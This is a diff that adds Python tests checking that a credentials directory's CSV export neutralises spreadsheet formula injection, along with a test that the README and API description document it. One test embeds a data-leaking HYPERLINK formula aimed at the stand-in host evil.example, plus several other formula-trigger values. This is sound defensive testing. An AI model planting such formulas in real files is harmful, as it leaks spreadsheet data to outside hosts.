@@ -156,6 +156,46 @@ def test_credentials_json_stream_refuses_a_wrong_total() -> None:
         stream.close()
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
+    """OWASP, CSV Injection: a cell starting with = + - @ tab or CR is a formula to
+    Excel, LibreOffice and Google Sheets; it gets a leading single quote. A title like this
+    one passes validation: it is text, and the JSON exports keep it as written."""
+    from conftest import copy_case
+
+    root = copy_case(CASES_DIR / "valid" / "minimal", tmp_path / "root")
+    path = root / "credentials/acme/data-basics.yaml"
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+    text = path.read_text("utf-8").replace("title: Data Basics", f"title: '{formula}'")
+    text = text.replace(
+        "status: active",
+        'keywords: ["+cmd", "-2+3", "@SUM(A1)", "\\tTAB", "safe = text"]\nstatus: active',
+    )
+    text = text.replace("summary: Clean and summarise a small dataset.", 'summary: "-1"')
+    path.write_text(text, "utf-8")
+    checked = load_directory(root)
+    assert checked.ok, checked.problems
+    out = io.StringIO(newline="")
+    records.write_credentials_csv(checked.directory, EXPORT_SITE_URL, out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
+    assert row["title"] == "'" + formula
+    assert row["summary"] == "'-1"
+    assert row["keywords"] == "'+cmd | -2+3 | @SUM(A1) | \tTAB | safe = text"
+    assert row["provider_name"] == "Acme Training"  # ordinary text is left as it is
+    assert row["url"].startswith("https://")
+    for start in records.FORMULA_STARTS:
+        assert records._cell(start + "x") == "'" + start + "x"
+    assert records._cell(0.5) == "0.5" and records._cell(None) == ""
+
+
+def test_the_api_description_and_readme_say_how_csv_cells_are_neutralised() -> None:
+    from generator.export.openapi import openapi
+
+    operation = openapi(EXPORT_SITE_URL)["paths"]["/credentials.csv"]["get"]
+    readme = (REPO_ROOT / "README.md").read_text("utf-8")
+    for text in (operation["description"], readme):
+        assert "single quote" in text and "CSV Injection" in text
+
+
 def test_an_unconfirmed_claim_is_told_apart_in_the_records(tmp_path: Path) -> None:
     """The claimant's record keeps its file as written, and says which of its links the
     target's provider has not confirmed; the target's record does not list the claim."""
